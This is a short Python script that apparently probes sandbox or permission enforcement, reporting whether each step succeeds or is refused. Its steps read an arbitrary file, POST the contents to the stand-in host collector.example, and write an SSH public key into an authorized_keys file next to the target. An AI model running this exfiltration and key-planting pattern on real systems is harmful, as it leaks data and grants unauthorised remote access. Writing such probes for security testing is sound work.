"""Does what it was told in words: reads a file, sends it, writes one, each under its own rights."""
import pathlib
import sys
import urllib.request

taken = b"nothing"
try:
    taken = pathlib.Path(sys.argv[1]).read_bytes()
    print("TAKEN", taken)
except Exception as error:
    print("refused", type(error).__name__, error)
try:
    urllib.request.urlopen("https://collector.example/", data=taken, timeout=5)
    print("SENT")
except Exception as error:
    print("refused", type(error).__name__, error)
try:
    pathlib.Path(sys.argv[1]).with_name("authorized_keys").write_text("ssh-ed25519 AAAA\n")
    print("WROTE")
except Exception as error:
    print("refused", type(error).__name__, error)
